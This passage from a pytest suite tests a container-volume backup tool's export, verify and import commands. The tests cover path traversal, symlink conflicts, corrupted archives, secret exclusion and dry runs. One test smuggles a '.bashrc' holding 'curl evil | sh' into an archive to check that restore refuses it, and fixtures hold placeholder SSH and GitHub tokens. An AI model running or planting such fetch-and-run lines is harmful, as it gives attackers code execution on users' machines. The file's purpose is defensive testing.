    archive = tgz_file(tmp_path / "bad.tgz", [f("ok.txt", "ok\n"), member("../evil", data=b"x")])
    start = int(time.time()) - 1

    result = cai("import", "--data-volume", volume, "--from", str(archive))

    end = int(time.time()) + 1
    assert result.code == 1
    assert "../evil" in one_line(result.err)
    assert not volume_exists(docker_client, volume)
    time.sleep(max(0.0, end - time.time()))
    assert containers_created(docker_client, volume, start, end) == set()


# A volume whose cfg is a symlink (made by the agent) to a folder beside it.
CFG_LINKED_AWAY = [d("elsewhere"), ln("cfg", "elsewhere")]


@pytest.mark.parametrize("with_dir", [True, False], ids=["dir-member", "implied-dir"])
def test_a_volume_symlink_where_the_archive_has_a_directory_stays_without_replace(
    with_dir: bool, cai: Any, docker_client: Any, tmp_path: Path, volume_of: Any
) -> None:
    # The archive is safe on its own; the volume (changed in the container) has a symlink where
    # the archive has a directory. Nothing may be written through the link, and the link is a
    # volume file the archive does not hold: it stays unless --replace is given.
    volume = volume_of(CFG_LINKED_AWAY)
    members = [d("cfg")] if with_dir else []
    archive = tgz_file(
        tmp_path / "cfg.tgz", [*members, f("cfg/settings.json", "from the archive\n")]
    )

    cai("import", "--data-volume", volume, "--from", str(archive))

    files = snapshot(docker_client, volume)
    assert "elsewhere/settings.json" not in files
    assert files["cfg"].kind == "symlink"
    assert files["cfg"].linkname == "elsewhere"


@pytest.mark.usefixtures("shell_image")
def test_replace_turns_a_volume_symlink_into_the_archive_directory(
    cai: Any, docker_client: Any, tmp_path: Path, volume_of: Any
) -> None:
    volume = volume_of(CFG_LINKED_AWAY)
    archive = tgz_file(
        tmp_path / "cfg.tgz", [d("cfg", 0o700), f("cfg/settings.json", "from the archive\n")]
    )

    restore(cai, volume, archive, "--replace")

    files = snapshot(docker_client, volume)
    assert "elsewhere" not in files
    assert files["cfg"].kind == "dir"
    assert files["cfg"].mode == 0o700
    assert files["cfg/settings.json"].data == b"from the archive\n"


@pytest.mark.usefixtures("shell_image")
def test_a_volume_directory_where_the_archive_has_a_file_stays_unless_replace(
    cai: Any, docker_client: Any, tmp_path: Path, volume_of: Any
) -> None:
    volume = volume_of([d("thing"), f("thing/inner.txt", "mine\n")])
    archive = tgz_file(
        tmp_path / "thing.tgz", [f("thing", "a file now\n"), f("other.txt", "other\n")]
    )

    result = cai("import", "--data-volume", volume, "--from", str(archive))

    files = snapshot(docker_client, volume)
    assert files["thing/inner.txt"].data == b"mine\n"
    assert files["other.txt"].data == b"other\n"
    assert "conflict" in result.out

    replaced = cai("import", "--data-volume", volume, "--from", str(archive), "--replace")

    files = snapshot(docker_client, volume)
    assert files["thing"].kind == "file"
    assert files["thing"].data == b"a file now\n"
    assert "thing/inner.txt" not in files
    assert replaced.code == 0, replaced.out + replaced.err


# -- 5. a corrupted member -----------------------------------------------------------------------


def members_of(archive: Path) -> list[tuple[tarfile.TarInfo, bytes]]:
    """Every member of a .tgz with its content (empty for all but regular files)."""
    with tarfile.open(archive, "r:gz") as tar:
        return [
            (m, (tar.extractfile(m).read() if m.isreg() else b""))  # type: ignore[union-attr]
            for m in tar.getmembers()
        ]


def failed_verification(cai: Any, archive: Path) -> dict[str, Any]:
    """`cai export --verify --json` of an archive that must fail: its report."""
    result = cai("export", "--verify", str(archive), "--json")
    assert result.code == 1, result.err
    report: dict[str, Any] = json.loads(result.out)
    return report


def corrupt_member(archive: Path, name: str, out: Path) -> None:
    """Flip one byte of `name`'s content; headers and the manifest stay as they were."""
    raw = bytearray(gzip.decompress(archive.read_bytes()))
    with tarfile.open(fileobj=io.BytesIO(bytes(raw))) as tar:
        info = tar.getmember(name)
        assert info.size > 0
        offset = info.offset_data
    raw[offset] ^= 0x01
    out.write_bytes(gzip.compress(bytes(raw)))


def test_a_flipped_byte_fails_verification_naming_the_member(
    cai: Any, exported: Path, tmp_path: Path
) -> None:
    bad = tmp_path / "corrupt.tgz"
    corrupt_member(exported, "b/nested/deeper/leaf.txt", bad)

    result = cai("export", "--verify", str(bad))

    assert result.code == 1
    assert "corrupt" in result.out
    assert "b/nested/deeper/leaf.txt" in result.out
    assert "failed verification" in one_line(result.err)


def test_a_flipped_byte_is_listed_as_corrupt_in_json(
    cai: Any, exported: Path, tmp_path: Path
) -> None:
    bad = tmp_path / "corrupt.tgz"
    corrupt_member(exported, UNICODE_NAME, bad)

    document = failed_verification(cai, bad)

    assert document["ok"] is False
    assert document["corrupt"] == [UNICODE_NAME]
    assert (document["missing"], document["extra"]) == ([], [])


@pytest.mark.core
def test_a_flipped_byte_fails_the_restore_and_leaves_the_volume_alone(
    cai: Any, docker_client: Any, exported: Path, tmp_path: Path, restored_copy: str
) -> None:
    target = restored_copy
    bad = tmp_path / "corrupt.tgz"
    corrupt_member(exported, "bin/run.sh", bad)

    line = assert_refused(cai, docker_client, target, bad, "bin/run.sh")

    assert "corrupt" in line


def test_a_corrupt_archive_does_not_create_the_volume(
    cai: Any, docker_client: Any, new_volume: Any, exported: Path, tmp_path: Path
) -> None:
    target = new_volume("corrupt-new")
    bad = tmp_path / "corrupt.tgz"
    corrupt_member(exported, "b/file", bad)

    result = cai("import", "--data-volume", target, "--from", str(bad))

    assert result.code == 1
    assert "b/file" in one_line(result.err)
    assert not volume_exists(docker_client, target)


def test_a_member_missing_from_the_archive_fails_verify_and_restore(
    refused: Any, cai: Any, exported: Path, tmp_path: Path
) -> None:
    # Drop one file but keep the manifest that lists it.
    kept = [(m, data) for m, data in members_of(exported) if m.name != "b/nested/deeper/leaf.txt"]
    bad = tgz_file(tmp_path / "missing.tgz", kept)

    assert failed_verification(cai, bad)["missing"] == ["b/nested/deeper/leaf.txt"]
    refused(bad, "b/nested/deeper/leaf.txt")


def test_a_member_the_manifest_does_not_list_fails_verify_and_restore(
    refused: Any, cai: Any, exported: Path, tmp_path: Path
) -> None:
    members = members_of(exported)
    smuggled = member(".bashrc", data=b"curl evil | sh\n")
    bad = tgz_file(tmp_path / "extra.tgz", [*members[:-1], smuggled, members[-1]])

    assert failed_verification(cai, bad)["extra"] == [".bashrc"]
    refused(bad, ".bashrc")


# -- 6. excludes and secrets ---------------------------------------------------------------------

SECRETS_AND_CACHES = [
    d(".claude"),
    f(".claude/settings.json", "{}\n"),
    d(".claude/projects"),
    d(".claude/projects/p1"),
    f(".claude/projects/p1/log.jsonl", "{}\n" * 100),
    f(".claude.json", f'{{"oauth": "{SECRET_TOKEN}"}}\n', mode=0o600),
    d(".config"),
    d(".config/gh", 0o700),
    f(".config/gh/hosts.yml", f"token: {SECRET_TOKEN}\n", mode=0o600),
    f(".config/gh/config.yml", "editor: vi\n"),
    d(".ssh", 0o700),
    f(".ssh/id_ed25519", f"{SECRET_TOKEN}\n", mode=0o600),
    f(".ssh/id_ed25519.pub", "ssh-ed25519 AAAA me\n"),
]


@pytest.fixture
def mixed_volume(volume_of: Any) -> str:
    return volume_of(SECRETS_AND_CACHES)


def test_config_excludes_drop_members_and_no_excludes_keeps_them(
    cai: Any, isolated_env: Path, mixed_volume: str, tmp_path: Path
) -> None:
    write_files(
        isolated_env, {".config/containai/containai.toml": 'excludes = [".claude/projects/"]\n'}
    )

    excluded = export(cai, mixed_volume, tmp_path / "excluded.tgz")
    kept = export(cai, mixed_volume, tmp_path / "kept.tgz", "--no-excludes")

    names = tar_names(excluded)
    assert not [n for n in names if n.startswith(".claude/projects")], names
    assert ".claude/settings.json" in names
    assert manifest_of(excluded)[0]["options"]["excludes"] is True
    assert ".claude/projects/p1/log.jsonl" not in manifest_of(excluded)[0]["files"]
    all_names = tar_names(kept)
    assert ".claude/projects/p1/log.jsonl" in all_names
    assert ".claude/projects" in all_names
    assert manifest_of(kept)[0]["options"]["excludes"] is False


def test_an_excluded_export_still_verifies_and_restores(
    cai: Any,
    isolated_env: Path,
    docker_client: Any,
    new_volume: Any,
    mixed_volume: str,
    tmp_path: Path,
) -> None:
    write_files(
        isolated_env, {".config/containai/containai.toml": 'excludes = [".claude/projects/"]\n'}
    )
    archive = export(cai, mixed_volume, tmp_path / "excluded.tgz")

    assert cai("export", "--verify", str(archive)).code == 0
    target = new_volume("excluded")
    restore(cai, target, archive)
    files = snapshot(docker_client, target)
    assert ".claude/settings.json" in files
    assert not [p for p in files if p.startswith(".claude/projects")]


def test_no_secrets_leaves_secret_files_out_and_says_so_in_the_manifest(
    cai: Any, mixed_volume: str, tmp_path: Path
) -> None:
    archive = export(cai, mixed_volume, tmp_path / "nosecrets.tgz", "--no-secrets")

    names = tar_names(archive)
    for secret in (".claude.json", ".config/gh/hosts.yml", ".ssh/id_ed25519"):
        assert secret not in names
    for plain in (".config/gh/config.yml", ".ssh/id_ed25519.pub", ".claude/settings.json"):
        assert plain in names
    document, _ = manifest_of(archive)
    assert document["options"]["secrets"] is False
    assert ".claude.json" not in document["files"]
    assert SECRET_TOKEN.encode() not in gzip.decompress(archive.read_bytes())


def test_the_manifest_never_holds_secret_content(
    cai: Any, mixed_volume: str, tmp_path: Path
) -> None:
    archive = export(cai, mixed_volume, tmp_path / "secrets.tgz")

    document, raw = manifest_of(archive)
    assert SECRET_TOKEN.encode() not in raw
    assert document["options"]["secrets"] is True
    for secret in (".claude.json", ".config/gh/hosts.yml", ".ssh/id_ed25519"):
        assert document["files"][secret]["secret"] is True, secret
    assert document["files"][".ssh/id_ed25519.pub"]["secret"] is False
    # The secrets themselves are in the archive (that is what a backup is for).
    assert SECRET_TOKEN.encode() in gzip.decompress(archive.read_bytes())


def test_no_secret_content_appears_in_any_output(
    cai: Any, mixed_volume: str, tmp_path: Path, new_volume: Any
) -> None:
    outputs = []
    archive = tmp_path / "out.tgz"
    for args in (("--verbose",), ("--json",)):
        result = cai("export", "--data-volume", mixed_volume, "-o", str(archive), "--force", *args)
        assert result.code == 0, result.err
        outputs.append(result.out + result.err)
    target = new_volume("quiet")
    for args in (("--dry-run", "--json"), ("--json", "--verbose"), ("--verbose",)):
        result = cai("import", "--data-volume", target, "--from", str(archive), *args)
        assert result.code == 0, result.err
        outputs.append(result.out + result.err)
    outputs.append(cai("export", "--verify", str(archive), "--json").out)
    for text in outputs:
        assert SECRET_TOKEN not in text


# -- 7. dry run ----------------------------------------------------------------------------------


def test_a_dry_run_restore_changes_nothing_and_lists_its_actions(
    cai: Any, docker_client: Any, new_volume: Any, exported: Path, tmp_path: Path
) -> None:
    target = new_volume("dry")
    older = tgz_file(
        tmp_path / "older.tgz",
        [d("b"), f("b/file", "an older version\n"), f("only-here.txt", "mine\n")],
    )
    restore(cai, target, older)
    before = volume_checksum(docker_client, target)

    result = restore(cai, target, exported, "--dry-run", "--json")

    assert volume_checksum(docker_client, target) == before
    document = json.loads(result.out)
    assert document["dry_run"] is True
    assert document["volume"] == {"name": target, "exists": True}
    acts = {item["path"]: item["action"] for item in document["items"]}
    assert acts["b/file"] == "update"
    assert acts[".claude/settings.json"] == "add"
    assert acts[UNICODE_NAME] == "add"
    assert "only-here.txt" not in acts  # stays: not listed for removal without --replace
    assert "result" not in document


@pytest.mark.usefixtures("shell_image")
def test_a_dry_run_with_replace_lists_removals_and_deletes_nothing(
    cai: Any, docker_client: Any, new_volume: Any, exported: Path, tmp_path: Path
) -> None:
    target = new_volume("dryreplace")
    older = tgz_file(
        tmp_path / "older.tgz", [d("gone"), f("gone/x.txt", "x\n"), f("only-here.txt", "mine\n")]
    )
    restore(cai, target, older)
    before = volume_checksum(docker_client, target)

    result = restore(cai, target, exported, "--dry-run", "--replace", "--json")

    assert volume_checksum(docker_client, target) == before
    acts = {item["path"]: item["action"] for item in json.loads(result.out)["items"]}
    assert acts["only-here.txt"] == "delete"
    assert acts["gone"] == "delete"


def test_a_dry_run_restore_text_output_lists_the_plan(
    cai: Any, new_volume: Any, exported: Path
) -> None:
    target = new_volume("drytext")

    result = restore(cai, target, exported, "--dry-run")

    assert "would create" in result.out
    assert "b/file" in result.out
    assert "dry run, nothing changed" in result.out


def test_a_dry_run_restore_into_a_missing_volume_does_not_create_it(
    cai: Any, docker_client: Any, new_volume: Any, exported: Path
) -> None:
    target = new_volume("drynew")

    result = restore(cai, target, exported, "--dry-run", "--json")

    assert not volume_exists(docker_client, target)
    document = json.loads(result.out)
    assert document["volume"] == {"name": target, "exists": False}
    acts = {item["path"]: item["action"] for item in document["items"]}
    assert set(acts.values()) == {"add"}
    assert acts["a/link"] == "add"


# -- 8. the volume a restore creates -------------------------------------------------------------


def test_a_restore_creates_the_volume_with_containai_labels_only(
    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path, volume_of: Any
) -> None:
    source = volume_of(
        [f("x.txt", "x\n")],
        labels={"containai.managed": "true", "com.docker.compose.project": "victim"},
    )
    archive = export(cai, source, tmp_path / "l.tgz")
    target = new_volume("created")
    assert not volume_exists(docker_client, target)

    restore(cai, target, archive)

    labels = volume_labels(docker_client, target)
    assert labels["containai.managed"] == "true"
    # Another tool's label in an archive would enrol the volume in someone's project.
    assert "com.docker.compose.project" not in labels
    assert labels.get("containai.workspace")
    assert snapshot(docker_client, target)["x.txt"].data == b"x\n"


def test_a_restore_of_an_unlabelled_volume_export_still_marks_the_volume_managed(
    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path, volume_of: Any
) -> None:
    source = volume_of([f("x.txt", "x\n")])
    archive = export(cai, source, tmp_path / "p.tgz")
    target = new_volume("managed")

    restore(cai, target, archive)

    assert volume_labels(docker_client, target)["containai.managed"] == "true"


@pytest.mark.core
def test_the_root_of_a_restored_volume_belongs_to_the_agent(
    docker_client: Any, restored_copy: str
) -> None:
    target = restored_copy

    root = volume_root(docker_client, target)
    assert (root.uid, root.gid) == AGENT


def test_restoring_into_a_volume_a_running_container_uses_warns_and_proceeds(
    cai: Any,
    docker_client: Any,
    exported: Path,
    plain_container: Any,
    volume_of: Any,
) -> None:
    target = volume_of([f("keep.txt", "kept\n")])
    running = plain_container(volumes={target: {"bind": "/v", "mode": "rw"}})

    result = restore(cai, target, exported)

    assert "warning" in result.err
    assert running.name in result.err
    files = snapshot(docker_client, target)
    assert files["b/file"].data == b"the file a/link points at\n"
    assert files["keep.txt"].data == b"kept\n"


def test_verify_of_a_missing_file_is_a_usage_error(cai: Any, tmp_path: Path) -> None:
    result = cai("export", "--verify", str(tmp_path / "nowhere.tgz"))

    assert result.code == 2
    assert "nowhere.tgz" in one_line(result.err)


# -- 9. --container ------------------------------------------------------------------------------


@pytest.fixture
def made_containers(docker_client: Any, new_volume: Any) -> Any:
    # Depends on new_volume so that its containers go before the volumes they mount.
    made: list[Any] = []

    def make(**options: Any) -> Any:
        container = docker_client.containers.create(
            TEST_IMAGE,
            ["true"],
            name=f"cai-test-exp-{uuid.uuid4().hex[:10]}",
            network_mode="none",
            **options,
        )
        made.append(container)
        return container

    yield make
    for container in made:
        with contextlib.suppress(Exception):
            container.remove(force=True)


def test_export_of_a_container_without_containai_labels_is_a_usage_error(
    cai: Any, made_containers: Any, small_volume: str, tmp_path: Path
) -> None:
    container = made_containers(volumes={small_volume: {"bind": "/data", "mode": "rw"}})
    target = tmp_path / "c.tgz"

    result = cai("export", "--container", container.name, "-o", str(target))

    assert result.code == 2
    assert container.name in one_line(result.err)
    assert not target.exists()
    assert no_partials(tmp_path) == []


def test_export_of_a_missing_container_fails(cai: Any, tmp_path: Path) -> None:
    name = f"cai-test-nosuch-{uuid.uuid4().hex[:10]}"

    result = cai("export", "--container", name, "-o", str(tmp_path / "c.tgz"))

    assert result.code == 1
    assert name in one_line(result.err)


def test_export_with_container_and_data_volume_is_a_usage_error(
    cai: Any, small_volume: str
) -> None:
    result = cai("export", "--container", "anything", "--data-volume", small_volume)

    assert result.code == 2
    one_line(result.err)


def test_export_of_a_containai_container_exports_its_volume(
    cai: Any, docker_client: Any, made_containers: Any, source_volume: str, tmp_path: Path
) -> None:
    container = made_containers(
        volumes={source_volume: {"bind": "/home/agent/.containai/data", "mode": "rw"}},
        labels={"containai.managed": "true", "containai.data-volume": source_volume},
    )
    target = tmp_path / "c.tgz"

    result = cai("export", "--container", container.name, "-o", str(target))

    assert result.code == 0, result.err
    assert result.out == f"{target}\n"
    assert manifest_of(target)[0]["volume"]["name"] == source_volume
    assert sorted(n for n in tar_names(target) if n != MANIFEST) == sorted(
        s.name for s in ROUND_TRIP
    )
    container.reload()
    assert container.status == "created"  # exporting never starts the agent's container


# -- 10. archives without a manifest -------------------------------------------------------------


def test_an_upstream_style_archive_without_a_manifest_restores(
    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
) -> None:
    archive = tgz_file(
        tmp_path / "upstream.tar.gz",
        [
            d("./", mode=0o755),
            d("./claude", mtime=BASE + 1),
            f("./claude/settings.json", '{"a": 1}\n', mtime=BASE + 2),
            d("./claude/skills", mtime=BASE + 3),
            f("./claude/skills/s.md", "# skill\n", mode=0o600, mtime=BASE + 4),
            ln("./claude/latest", "skills/s.md", mtime=BASE + 5),
            d("./config"),
            d("./config/gh"),
            f("./config/gh/config.yml", "editor: vi\n"),
        ],
    )
    target = new_volume("upstream")

    restore(cai, target, archive)

    files = snapshot(docker_client, target)
    assert files["claude/settings.json"].data == b'{"a": 1}\n'
    assert files["claude/settings.json"].mtime == BASE + 2
    assert files["claude/skills/s.md"].mode == 0o600
    assert files["claude/latest"].linkname == "skills/s.md"
    assert files["config/gh/config.yml"].data == b"editor: vi\n"
    assert (files["claude/settings.json"].uid, files["claude/settings.json"].gid) == AGENT
    assert "." not in files


def test_verify_of_an_archive_without_a_manifest_says_so(cai: Any, tmp_path: Path) -> None:
    archive = tgz_file(tmp_path / "upstream.tgz", [d("./"), f("./x.txt", "x\n")])

    result = cai("export", "--verify", str(archive))

    assert result.code == 1
    assert "no containai manifest" in one_line(result.err)


def test_an_archive_is_recognised_by_content_not_by_name(
    cai: Any, docker_client: Any, new_volume: Any, exported: Path, tmp_path: Path
) -> None:
    renamed = tmp_path / "backup.data"
    renamed.write_bytes(exported.read_bytes())
    target = new_volume("renamed")

    restore(cai, target, renamed)

    assert snapshot(docker_client, target)["b/file"].data == b"the file a/link points at\n"


# -- 11. engine use ------------------------------------------------------------------------------


def test_export_and_restore_each_create_one_unstarted_helper_and_leave_none(
    cai: Any, docker_client: Any, new_volume: Any, source_volume: str, tmp_path: Path
) -> None:
    target = new_volume("helpers")
    archive = tmp_path / "h.tgz"
    runs = [
        (source_volume, ("export", "--data-volume", source_volume, "-o", str(archive))),
        (target, ("import", "--data-volume", target, "--from", str(archive))),
        (target, ("import", "--data-volume", target, "--from", str(archive))),
        (target, ("import", "--data-volume", target, "--from", str(archive), "--dry-run")),
    ]
    seen: set[str] = set()
    for volume, args in runs:
        start = int(time.time()) - 1
        result = cai(*args)
        end = int(time.time()) + 1
        assert result.code == 0, result.err
        time.sleep(max(0.0, end - time.time()))
        created = containers_created(docker_client, volume, start, end) - seen
        seen |= created
        assert len(created) <= 1, (args, created)
        assert containers_started(docker_client, created, start, end) == set(), args
        assert volume_containers(docker_client, volume, role=None) == [], args
    assert len(seen) >= 3  # export, and the two real restores, each used a helper
